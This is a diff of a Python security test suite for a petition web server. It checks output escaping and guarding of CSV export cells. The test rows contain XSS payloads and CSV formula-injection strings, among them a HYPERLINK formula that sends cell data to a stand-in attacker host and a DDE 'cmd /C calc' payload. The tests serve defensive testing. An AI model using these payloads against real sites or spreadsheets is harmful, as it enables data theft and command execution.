@@ -28,17 +28,15 @@ sys.dont_write_bytecode = True
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
 import harness as H  # noqa: E402
 
-FORM_CT = "application/x-www-form-urlencoded"
 CLOSED = "closed"
 
 # Statuses only petitiond itself produces (libmicrohttpd's own error pages
 # are 400, 413, 414, 431, 505): these must carry the security headers.
 OWN_STATUSES = {200, 201, 303, 401, 403, 404, 405, 415, 422}
 
-CRASH_MARKERS = ("AddressSanitizer", "LeakSanitizer", "UndefinedBehaviorSanitizer",
-                 "ThreadSanitizer", "runtime error:", "Segmentation fault", "SIGSEGV",
-                 "Aborted", "abort()", "Assertion", "assertion", "double free", "corrupted",
-                 "stack smashing", "core dumped")
+CRASH_MARKERS = H.SANITIZER_MARKERS + (
+    "Segmentation fault", "SIGSEGV", "Aborted", "abort()", "Assertion", "assertion", "double free",
+    "corrupted", "stack smashing", "core dumped")
 
 
 class Row:
@@ -88,7 +86,7 @@ def email_of(ps):
     return None
 
 
-def post(body, ctype=FORM_CT, accept="text/html", extra=None):
+def post(body, ctype=H.FORM_CT, accept="text/html", extra=None):
     h = {"Accept": accept}
     if ctype is not None:
         h["Content-Type"] = ctype
@@ -168,10 +166,7 @@ def on_public_page(first):
 
 def json_errors(fieldset):
     def check(t, srv, row, st, h, body):
-        try:
-            j = H.jsonlib.loads(body.decode("utf-8"))
-        except (ValueError, UnicodeDecodeError):
-            j = None
+        j = H.json_body(body)
         errs = j.get("errors") if isinstance(j, dict) else None
         t.ok(st == 422 and isinstance(errs, dict) and set(errs) == set(fieldset),
              "%s: JSON errors name exactly %s" % (row.label, sorted(fieldset)), "status %d body %r" % (st, body[:300]))
@@ -393,9 +388,11 @@ def build_rows(token):
     add(form_row(g, "email twice (same value)", ps + [("email", email_of(ps))]))
     add(form_row(g, "country twice", pairs() + [("country", "US")]))
     add(form_row(g, "comment twice", pairs(comment="one") + [("comment", "two")]))
-    ps = pairs(public="0") + [("public", "1")]
+    ps = pairs(public="0", public_name="Ticked Twice") + [("public", "1")]
     add(form_row(g, "public '0' then '1' (hidden 0 + checkbox) is ticked", ps, 303, stores=True,
-                 csv={"public": "1", "updates": "0"}))
+                 csv={"public": "1", "updates": "0", "public_name": "Ticked Twice"}))
+    add(form_row(g, "public_name twice with public ticked", pairs(public="1", public_name="A")
+                 + [("public_name", "B")], checks=[json_errors({"public_name"})], accept="application/json"))
 
     # ---- missing fields ----------------------------------------------------------------
     g = "missing"
@@ -417,10 +414,10 @@ def build_rows(token):
         add(form_row(g, "Content-Type: %s" % (ct or "(none)"), body, 415, ctype=ct, email=email_of(ps)))
     ps = pairs()
     add(form_row(g, "urlencoded with '; charset=UTF-8' is fine", ps, 303, stores=True,
-                 ctype=FORM_CT + "; charset=UTF-8", csv={"name": dict(ps)["name"]}))
+                 ctype=H.FORM_CT + "; charset=UTF-8", csv={"name": dict(ps)["name"]}))
     ps = pairs()
     add(form_row(g, "upper-case APPLICATION/X-WWW-FORM-URLENCODED is fine", ps, 303, stores=True,
-                 ctype=FORM_CT.upper(), csv={"name": dict(ps)["name"]}))
+                 ctype=H.FORM_CT.upper(), csv={"name": dict(ps)["name"]}))
     add(form_row(g, "urlencoded type with a JSON body", b'{"name":"J","email":"j@example.com","country":"KH"}', 422))
 
     # ---- path traversal on static routes --------------------------------------------------
@@ -463,9 +460,9 @@ def build_rows(token):
     add(form_row(g, "public %r: 422" % xp, pairs(public=xp), checks=[absent_on_422(xp)], forbid=[xp]))
     add(form_row(g, "updates %r: 422" % xp, pairs(updates=xp), checks=[absent_on_422(xp)], forbid=[xp]))
     for x in ("<script>alert(7)</script>", "\"><svg/onload=alert(8)>", "'onmouseover='alert(9)'"):
-        ps = pairs(name=x, public="1")
+        ps = pairs(name="Escaped Signer", public="1", public_name=x)
         add(form_row(g, "stored public name %r: escaped on the page" % x, ps, 303, stores=True,
-                     csv={"name": x, "public": "1"}, checks=[on_public_page(x)]))
+                     csv={"public_name": x, "public": "1"}, checks=[on_public_page(x)]))
     ps = pairs(name="Comment Payload", comment="<script>alert(10)</script><img src=x onerror=alert(11)>")
     add(form_row(g, "stored comment with <script> and <img onerror>", ps, 303, stores=True,
                  csv={"comment": dict(ps)["comment"]}))
@@ -486,7 +483,7 @@ def build_rows(token):
 
     # ---- CSV formula payloads ------------------------------------------------------------
     g = "CSV formula"
-    for x in ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
+    for x in ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+A1",
               "@SUM(1+1)*cmd|' /C calc'!A0"):
         ps = pairs(name=x)
         add(form_row(g, "name %r" % x, ps, 303, stores=True, csv={"name": x}))
@@ -501,6 +498,9 @@ def build_rows(token):
         e = x % uniq()
         ps = pairs(email=e)
         add(form_row(g, "email %r" % e, ps, 303, stores=True, csv={"email": e}))
+    for x in ('=HYPERLINK("http://evil.example","x")', "@SUM(A1)"):
+        ps = pairs(public="1", public_name=x)
+        add(form_row(g, "public_name %r" % x, ps, 303, stores=True, csv={"public_name": x, "public": "1"}))
 
     # ---- bogus Authorization -----------------------------------------------------------------
     g = "auth"
@@ -683,13 +683,13 @@ def main(t):
                 "%s=%r" % (c, H.guard(v)[:40]) for c, v in r.csv.items())),
                 "rows with email %r: %d; %s" % (r.email, len(got), "; ".join(bad)))
             if r.group == "CSV formula":
-                cols = [c for c in r.csv if c in ("name", "comment", "email")]
+                cols = [c for c in r.csv if c in ("name", "comment", "email", "public_name")]
                 t.ok(d and all(d.get(c, "").startswith("'") for c in cols),
                      "export cell of [%s] %s starts with '" % (r.group, r.desc),
                      "cells %r" % {c: d.get(c) for c in cols})
         unguarded = []
         for rw in rows_csv:
-            for c in rw[2:6]:
+            for c in rw[2:6] + rw[8:]:
                 if c[:1] in ("=", "+", "-", "@", "\t", "\r"):
                     unguarded.append(c)
         t.ok(not unguarded, "no export cell starts with = + - @ TAB or CR unguarded", repr(unguarded[:5]))
